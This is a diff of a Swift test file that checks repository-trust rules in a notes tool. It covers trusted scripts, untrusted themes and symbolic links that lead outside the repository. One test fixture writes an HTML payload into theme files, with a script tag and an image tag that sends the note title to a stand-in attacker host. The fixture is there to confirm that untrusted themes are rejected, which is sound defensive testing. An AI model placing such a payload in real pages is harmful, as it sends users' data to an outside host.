@@ -50,6 +50,36 @@ import Testing
     #expect(session.startedPrograms == ["evil", "mine", "mine"])
   }
 
+  @Test func `trust covers the programs of the repository that a setting names, and what these name`() throws {
+    try session.folder.write(
+      "#!/bin/sh\n. tools/common.sh\n\"$(dirname \"$0\")/part.py\" Memo/Inbox.md\n", to: "tools/edit.sh")
+    for name in ["tools/common.sh", "tools/part.py", "tools/other.sh", "Memo/Inbox.md", "tools/call.sh"] {
+      try session.folder.write("true\n", to: name)
+    }
+    try session.folder.write(
+      "editor: sh ./tools/edit.sh\nalias:\n  x: '!\"$PWD/tools/call.sh\"'\n", to: ".sheaf/config.yaml")
+    let trusted = session.run(["config", "trust"])
+    for name in ["tools/edit.sh", "tools/common.sh", "tools/part.py", "tools/call.sh"] {
+      #expect(trusted.output.contains("\n\(name)\n"), "\(name)")
+    }
+    func isTrusted() -> Bool {
+      _ = session.run(["edit", "a"], onTerminal: true)
+      return session.startedPrograms.last == "sh ./tools/edit.sh"
+    }
+    #expect(isTrusted())
+    for name in ["tools/other.sh", "Memo/Inbox.md"] { try session.folder.write("false\n", to: name) }
+    #expect(isTrusted())
+    for name in ["tools/edit.sh", "tools/common.sh", "tools/part.py", "tools/call.sh"] {
+      let before = try session.folder.read(name)
+      try session.folder.write(before + Array("false\n".utf8), to: name)
+      #expect(!isTrusted(), "\(name)")
+      try session.folder.write(before, to: name)
+      #expect(isTrusted(), "\(name)")
+    }
+    try session.folder.remove("tools/part.py")
+    #expect(!isTrusted())
+  }
+
   @Test func `the trust is kept outside the repository`() throws {
     let before = session.folder.files()
     _ = session.run(["config", "trust"])
@@ -95,7 +125,7 @@ import Testing
     #expect(!session.folder.files().contains("Memo/A.md"))
   }
 
-  @Test func `a theme that is not trusted is not used, and that is reported once`() throws {
+  @Test func `a theme that is not trusted is not used, and every publication says so`() throws {
     let hostile = "<script>fetch('/')</script><img src='https://evil.example/{{title}}'>"
     for name in ["page.html", "note.html", "style.css", "more.css", "sub/x.html", "a.js"] {
       try session.folder.write(hostile, to: ".sheaf/theme/" + name)
@@ -119,7 +149,7 @@ import Testing
           .sheaf/theme/style.css
           .sheaf/theme/sub/x.html
         """))
-    #expect(!(try site().errors.contains("theme")))
+    #expect(try site().errors.contains("used only in a repository that you trust"))
     _ = session.run(["config", "trust"])
     #expect(try site().isHostile)
     try session.folder.write(hostile + "!", to: ".sheaf/theme/sub/x.html")
@@ -175,7 +205,7 @@ import Testing
     let words = name.contains("theme") ? ["publish", "-o", "site"] : ["new", "A"]
     let run = session.run(words)
     #expect(run.status == status)
-    #expect(status == 0 || run.errors.contains("error: \(name) "))
+    #expect(status == 0 || run.errors.contains("error: A symbolic link at \(name) leads out"))
     for file in session.folder.files() where file.hasPrefix("site/") || file.hasPrefix("Memo/") {
       #expect(try !String(decoding: session.folder.read(file), as: UTF8.self).contains("secret"))
     }
